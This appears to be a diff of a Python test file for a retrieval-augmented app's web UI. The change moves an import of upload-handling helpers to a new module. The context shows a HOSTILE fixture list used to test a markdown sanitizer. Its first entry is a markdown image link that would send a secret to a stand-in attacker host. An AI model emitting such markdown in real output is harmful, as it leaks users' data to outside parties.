@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 from markdown_it import MarkdownIt
 
+from ingest.uploads import MAX_NAME_BYTES, safe_filename, save_upload, staging
 from rag.config import Settings
 from rag.errors import BllossomRagError
 from ui.cli.ui_command import app_script, streamlit_argv
@@ -23,7 +24,6 @@ from ui.web.safe_markdown import (
     safe_markdown,
     split_code_blocks,
 )
-from ui.web.uploads import MAX_NAME_BYTES, safe_filename, save_upload, staging
 
 HOSTILE = [
     "![pixel](https://evil.example/p.png?q=SECRET)",
